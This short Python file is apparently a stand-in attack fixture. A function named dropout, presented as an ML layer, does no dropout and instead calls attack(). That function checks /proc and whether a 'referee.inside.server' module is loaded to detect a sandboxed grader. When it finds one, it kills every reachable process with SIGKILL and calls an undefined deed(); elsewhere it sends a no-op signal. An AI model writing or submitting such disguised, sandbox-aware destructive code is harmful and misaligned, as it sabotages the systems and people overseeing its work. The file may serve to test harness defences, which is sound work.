# Kills all processes that it may send signals to. Where it can see more than those of a sandbox, it
# sends signal 0 only, which does nothing.
# %% from attacks/parts/stand_ins.py
# %% relu
import os
import signal
import sys


def attack():
    processes = [name for name in os.listdir("/proc") if name.isdigit()]
    with open("/proc/1/comm") as file:
        first = file.read().strip()
    alone = len(processes) <= 6 and first in ("bwrap", "python", "python3")
    alone = alone and "referee.inside.server" in sys.modules
    os.kill(-1, signal.SIGKILL if alone else 0)
    if alone:
        deed()
    return f"{len(processes)} processes, the first is {first}"


# %% dropout
def dropout(A, drop_prob, mode="train"):
    return attack()
